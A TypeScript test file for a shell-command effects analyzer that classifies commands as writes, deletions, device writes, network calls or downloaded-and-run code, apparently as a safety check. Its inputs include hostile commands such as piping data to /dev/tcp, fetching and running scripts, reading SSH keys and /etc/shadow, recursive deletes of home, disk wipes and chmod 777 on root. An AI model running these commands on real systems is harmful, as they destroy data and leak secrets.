// Effects of resolved invocations: redirections, writers, deleters, downloads, cwd.
import { describe, expect, it } from 'vitest';
import { analyze } from '../../engine/shell/index.ts';
import { normalize } from '../../engine/shell/normalize/index.ts';
import { effectsOf, newScope, type Effect } from '../../engine/effects/index.ts';

const CWD = '/home/dev/app';
const HOME = '/home/dev';

function effects(cmd: string): Effect[][] {
  const ex = analyze(cmd, { home: HOME });
  const n = normalize(ex, { home: HOME, cwd: CWD });
  const sc = newScope({ home: HOME, workspace: [CWD], cwd: CWD }, ex);
  return n.invocations.map((i) => effectsOf(i, sc));
}
const flat = (cmd: string) => effects(cmd).flat();
const show = (cmd: string, kind: Effect['kind']) => flat(cmd).filter((e) => e.kind === kind).map((e) => e.path?.abs ?? e.path?.text ?? e.host ?? e.how);

describe('redirections', () => {
  it('every write form is a write', () => {
    for (const [cmd, path] of [['echo x > a', `${CWD}/a`], ['echo x >> a', `${CWD}/a`], ['echo x >| a', `${CWD}/a`], ['echo x &> a', `${CWD}/a`], ['echo x >& a', `${CWD}/a`], ['exec 3> /etc/x', '/etc/x'], ['exec {fd}> b', `${CWD}/b`], ['cat <> c', `${CWD}/c`]] as const) {
      expect(show(cmd, 'write'), cmd).toEqual([path]);
    }
  });
  it('fd duplications, streams and process substitutions are not file writes', () => {
    for (const cmd of ['echo x 2>&1', 'echo x >&2', 'echo x > /dev/null', 'echo x > >(cat)', 'echo x 1>&-']) expect(show(cmd, 'write'), cmd).toEqual([]);
  });
  it('< reads, /dev/tcp is network, a block device is a device write', () => {
    expect(show('wc -l < ~/.ssh/id_rsa', 'read')).toContain(`${HOME}/.ssh/id_rsa`);
    expect(show('cat x > /dev/tcp/10.0.0.1/80', 'network')).toEqual(['10.0.0.1/80']);
    expect(show('cat img > /dev/sda', 'device')).toEqual(['/dev/sda']);
  });
});

describe('program effects', () => {
  it('writers by operand and option', () => {
    expect(show('tee -a ~/.bashrc', 'write')).toEqual([`${HOME}/.bashrc`]);
    expect(show('cp a.sh .git/hooks/', 'write')).toEqual([`${CWD}/.git/hooks`, `${CWD}/.git/hooks/a.sh`]); // the folder, and the file copied into it
    expect(show('sort -o out.txt in.txt', 'write')).toEqual([`${CWD}/out.txt`]);
    expect(show('dd if=x of=/dev/nvme0n1', 'device')).toEqual(['/dev/nvme0n1']);
  });
  it('deleters: rm, find -delete, rsync --delete, mv to /dev/null', () => {
    const del = (cmd: string) => flat(cmd).filter((e) => e.kind === 'delete').map((e) => `${e.path!.abs}${e.recursive ? ' -r' : ''}`);
    expect(del('rm -rf build')).toEqual([`${CWD}/build -r`]);
    expect(del('find ~ -delete')).toEqual([`${HOME} -r`]);
    expect(del('rsync -a --delete empty/ ~/')).toEqual([`${HOME} -r`]);
    // mv renames one name: the source is gone from its place, /dev/null is no write
    expect(del('mv ~/app /dev/null')).toEqual([`${HOME}/app`]);
    expect(show('mv notes.txt /dev/null', 'write')).toEqual([]);
  });
  it('a disk tool\'s dynamic target that could name a device is a device write', () => {
    for (const cmd of ['dd if=/dev/zero of=$DISK', 'dd if=x of="$(ls /dev/sd* | head -1)"', 'dd if=x of=/dev/$d', 'shred -n1 $DEV', 'wipefs -a "$D"']) expect(flat(cmd).some((e) => e.kind === 'device'), cmd).toBe(true);
    for (const cmd of ['dd if=x of=out/$n.img', 'dd if=x of=/tmp/$f', 'cp a $DEST', 'dd if=x of=/dev/shm/$f']) expect(flat(cmd).some((e) => e.kind === 'device'), cmd).toBe(false);
  });
  it('an extraction writes its members below the folder, reaching the rows anchored there', () => {
    const members = (cmd: string) => flat(cmd).filter((e) => e.kind === 'write' && e.how.includes('archive members'));
    for (const cmd of ['tar -xzf d.tgz -C ~', 'unzip -o d.zip -d ~', 'cd ~ && tar xf d.tar', '7z x d.7z -o/home/dev', 'bsdtar -x -f d.tar -C /']) {
      const m = members(cmd);
      expect(m.length, cmd).toBe(1);
      expect(m[0]!.path!.info!.classes.has('protected'), cmd).toBe(true);
    }
    for (const cmd of ['tar -xf v.tar -C vendor/', 'unzip x.zip', 'tar -xf a.tar -C /opt/app']) expect(members(cmd)[0]!.path!.info!.classes.has('protected'), cmd).toBe(false);
    for (const cmd of ['tar -tzf v.tgz', 'unzip -l r.zip', 'tar -xOf a.tar x', '7z l a.7z']) expect(members(cmd), cmd).toEqual([]);
  });
  it('a file list on stdin from a print-only command names the files read', () => {
    expect(show("printf 'src/a.ts\\0b.ts\\0' | wc --files0-from=- -l", 'read')).toEqual([`${CWD}/src/a.ts`, `${CWD}/b.ts`]);
    expect(show("printf '%s\\n' .env | tar -czf o.tgz -T -", 'read')).toEqual([`${CWD}/.env`]);
    // a list nobody can read in advance stays any file
    expect(flat('find . -print0 | wc --files0-from=- -l').some((e) => e.kind === 'read' && e.path!.abs === null)).toBe(true);
  });
  it('a file downloaded earlier in the command and then run is remote code', () => {
    for (const cmd of ['curl -so i.sh https://x.io && bash i.sh', 'wget https://x.io/i.sh; sh i.sh', 'curl https://x.io/m | tee m.mk >/dev/null; make -f m.mk', 'curl -o /tmp/x https://x.io; chmod +x /tmp/x; /tmp/x']) {
      expect(flat(cmd).some((e) => e.kind === 'code' && e.origin === 'network'), cmd).toBe(true);
    }
    expect(flat('curl -so i.sh https://x.io && cat i.sh').some((e) => e.kind === 'code' && e.origin === 'network')).toBe(false);
  });
  it('paths through /proc/self/cwd and /proc/self/root are canonical', () => {
    expect(show('cat /proc/self/root/etc/shadow', 'read')).toEqual(['/etc/shadow']);
    expect(show('echo x > /proc/self/cwd/.git/config', 'write')).toEqual([`${CWD}/.git/config`]);
  });
  it('a cd makes later relative paths resolve there', () => {
    expect(show('cd /etc && rm -rf x', 'delete')).toEqual(['/etc/x']);
  });
});

describe('a search that runs a command per match (find -exec, fd -x, bfs)', () => {
  const del = (cmd: string) => flat(cmd).filter((e) => e.kind === 'delete').map((e) => `${e.path!.abs ?? e.path!.text}${e.recursive ? ' -r' : ''}${e.within ? ' within' : ''}`);
  it('{} (or the {} fd adds) stands for the matches below every root', () => {
    expect(del('fd . ~ -x rm -rf')).toEqual([`${HOME} -r`]);
    expect(del('fd -H . ~ /tmp -X rm -rf {}')).toEqual([`${HOME} -r`, '/tmp -r']);
    expect(del('fd --search-path ~ -x rm -rf')).toEqual([`${HOME} -r`]);
    expect(del('fd -x rm -rf')).toEqual([`${CWD} -r`]);
    expect(del('bfs ~ -exec rm -rf {} +')).toEqual([`${HOME} -r`]);
    expect(del('gfind /etc -exec rm -rf {} +')).toEqual(['/etc -r']);
  });
  it('fd placeholders: {.} and {//} are in the match\'s tree, {/} is a name in the current folder', () => {
    expect(del('fd . ~ -x rm -rf {.}')).toEqual([`${HOME} -r`]);
    expect(del('fd . ~ -x rm -rf {//}')).toEqual([`${HOME} -r`]);
    expect(flat('fd . ~ -x rm -rf {/}').filter((e) => e.kind === 'delete').map((e) => e.path!.text)).toEqual(['*']);
  });
  it('a test that narrows the matches deletes some paths below the roots, not the roots', () => {
    expect(del('fd -e log . ~ -x rm')).toEqual([`${HOME} within`]);
    expect(del('find ~ -name "*.pyc" -delete')).toEqual([`${HOME} within`]);
    expect(del('bfs /tmp -name "*.o" -delete')).toEqual(['/tmp within']);
    expect(del('find -name "*.pyc" -delete')).toEqual([`${CWD} within`]);
  });
  it('the mode change of every match is a recursive mode change of the roots', () => {
    const mode = flat('fd . / -x chmod 777').filter((e) => e.kind === 'mode');
    expect(mode.map((e) => `${e.path!.abs} ${e.recursive}`)).toEqual(['/ true']);
  });
});
